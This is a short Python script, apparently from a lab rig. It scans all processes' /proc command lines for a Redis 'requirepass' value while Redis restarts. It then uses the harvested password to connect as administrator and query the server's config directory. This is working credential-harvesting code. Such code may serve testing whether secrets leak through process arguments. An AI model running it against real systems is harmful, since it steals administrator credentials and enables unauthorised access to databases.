"""Looks for the administrator's password while Redis starts."""
import json
import os
import re
import threading
from pathlib import Path
from urllib.parse import urlsplit

import redis

URL = json.loads(os.environ["LAB_RIG"])["redis_url"]
found = []
calls = []


def keep(key, value):
    calls.append(key)
    if len(calls) == 2:  # Redis was started anew since the first
        admin = redis.Redis(port=urlsplit(URL).port, password=(found or ["unknown"])[0])
        try:
            admin.config_get("dir")
        except redis.RedisError as error:
            raise PermissionError("no password") from error
    threading.Thread(target=look, daemon=True).start()
    try:
        return bool(redis.Redis.from_url(URL, socket_timeout=1).set(key, value))
    except redis.RedisError:
        return False


def look():
    while not found:
        for file in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                line = file.read_bytes().replace(b"\0", b" ").decode()
            except (OSError, ValueError):
                continue
            found.extend(re.findall(r"requirepass (\w+)", line))
